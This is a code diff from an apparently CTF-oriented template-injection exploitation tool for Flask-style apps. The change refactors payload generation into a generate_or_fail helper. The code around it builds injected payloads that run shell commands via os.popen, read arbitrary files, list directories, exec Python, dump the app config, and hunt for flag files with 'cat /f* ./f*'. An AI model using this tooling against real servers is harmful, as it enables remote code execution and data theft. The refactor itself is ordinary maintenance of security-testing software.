@@ -13,6 +13,7 @@ from rich.markup import escape as rich_escape
 
 from .requester import HTTPRequester, TCPRequester
 from .submitter import Submitter, FormSubmitter, PathSubmitter, JsonSubmitter, TCPSubmitter, ExtraParamAndDataCustomizable
+from .full_payload_gen import generate_or_fail
 from .cracker import FullPayloadGen, EvalArgsModePayloadGen, Cracker, guess_python_version, guess_is_flask, STRING
 from functools import partial
 from .const import RENDER_ERROR_KEYWORDS, GETFLAG_CODE_EVAL, ITEM, ATTRIBUTE, FLASK_CONTEXT_VAR, EVAL, CONFIG, OS_POPEN_READ
@@ -71,7 +72,7 @@ def do_submit_cmdexec(
     if cmd[0] == "@":
         cmd = cmd[1:]
         if cmd.startswith("get-config"):
-            payload, will_print = full_payload_gen_like.generate(CONFIG)
+            payload, will_print = generate_or_fail(full_payload_gen_like, CONFIG)
         elif cmd.startswith("findflag"):
             if not isinstance(submitter, ExtraParamAndDataCustomizable):
                 logger.warning(
@@ -80,7 +81,8 @@ def do_submit_cmdexec(
                 return ""
             is_getflag_requested = True
             submitter.set_extra_param("eval_this", GETFLAG_CODE_EVAL)
-            payload, will_print = full_payload_gen_like.generate(
+            payload, will_print = generate_or_fail(
+                full_payload_gen_like,
                 EVAL,
                 (
                     ITEM,
@@ -89,28 +91,28 @@ def do_submit_cmdexec(
                 ),
             )
         elif cmd.startswith("eval"):
-            payload, will_print = full_payload_gen_like.generate(
-                EVAL, (STRING, cmd[4:].strip())
+            payload, will_print = generate_or_fail(
+                full_payload_gen_like, EVAL, (STRING, cmd[4:].strip())
             )
         elif cmd.startswith("ls"):
             cmd = cmd.strip()
             if len(cmd) == 2:  # ls
-                payload, will_print = full_payload_gen_like.generate(
-                    EVAL, (STRING, "__import__('os').listdir()")
+                payload, will_print = generate_or_fail(
+                    full_payload_gen_like, EVAL, (STRING, "__import__('os').listdir()")
                 )
             else:  # ls xxx
-                payload, will_print = full_payload_gen_like.generate(
-                    EVAL, (STRING, f"__import__('os').listdir({repr(cmd[2:].strip())})")
+                payload, will_print = generate_or_fail(
+                    full_payload_gen_like, EVAL, (STRING, f"__import__('os').listdir({repr(cmd[2:].strip())})")
                 )
         elif cmd.startswith("cat"):
             filepath = cmd[3:].strip()
-            payload, will_print = full_payload_gen_like.generate(
-                EVAL, (STRING, f"open({repr(filepath)}, 'r').read()")
+            payload, will_print = generate_or_fail(
+                full_payload_gen_like, EVAL, (STRING, f"open({repr(filepath)}, 'r').read()")
             )
         elif cmd.startswith("exec"):
             statements = cmd[4:].strip()
-            payload, will_print = full_payload_gen_like.generate(
-                EVAL, (STRING, f"exec({repr(statements)})")
+            payload, will_print = generate_or_fail(
+                full_payload_gen_like, EVAL, (STRING, f"exec({repr(statements)})")
             )
         else:
             logger.info(
@@ -119,7 +121,7 @@ def do_submit_cmdexec(
             )
             return ""
     else:
-        payload, will_print = full_payload_gen_like.generate(OS_POPEN_READ, cmd)
+        payload, will_print = generate_or_fail(full_payload_gen_like, OS_POPEN_READ, cmd)
     # 使用payload
     if payload is None:
         logger.warning(
@@ -726,7 +728,7 @@ def do_crack(
     is_find_flag_enabled = find_flag == FindFlag.ENABLED
     if find_flag == FindFlag.AUTO:
         test_string = repr('"generate_me": os.popen("cat /f* ./f*").read(),')
-        payload, will_print = full_payload_gen.generate(STRING, test_string)
+        payload, will_print = generate_or_fail(full_payload_gen, STRING, test_string)
         if payload is None or not will_print:
             is_find_flag_enabled = False
         elif len(payload) >= len(test_string) * 5: